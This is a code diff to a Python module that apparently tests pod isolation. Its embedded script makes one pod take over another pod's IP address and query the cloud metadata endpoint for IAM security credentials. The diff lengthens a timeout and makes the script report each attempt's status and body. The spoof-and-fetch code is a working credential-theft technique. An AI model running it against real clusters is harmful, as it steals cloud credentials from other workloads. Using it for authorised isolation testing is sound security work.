@@ -1,6 +1,7 @@
 """A pod that takes over the address of another one, as a script that runs in it."""
 
-# It is told the address, and whether to announce it to the whole link as well.
+# It is told the address, and whether to announce it to the whole link as well. It says what came of
+# each of its tries: status and body, or the error.
 TAKEOVER = r"""
 import pathlib, socket, struct, subprocess, sys
 
@@ -19,11 +20,10 @@ for attempt in range(5):
         door = socket.create_connection(("169.254.169.254", 80), 1, source_address=(victim, 0))
         path = "/latest/meta-data/iam/security-credentials/"
         door.sendall(f"GET {path} HTTP/1.0\r\nHost: 169.254.169.254\r\n\r\n".encode())
-        door.settimeout(1)
+        door.settimeout(5)
         head, _, body = door.recv(65536).partition(b"\r\n\r\n")
-        if head.split()[1] == b"200":
-            print(body.decode())
-    except OSError:
-        pass
+        print(head.split()[1].decode(), body.decode(), sep="")
+    except OSError as error:
+        print(type(error).__name__)
 subprocess.run(["ip", "address", "delete", f"{victim}/32", "dev", "eth0"], check=True)
 """
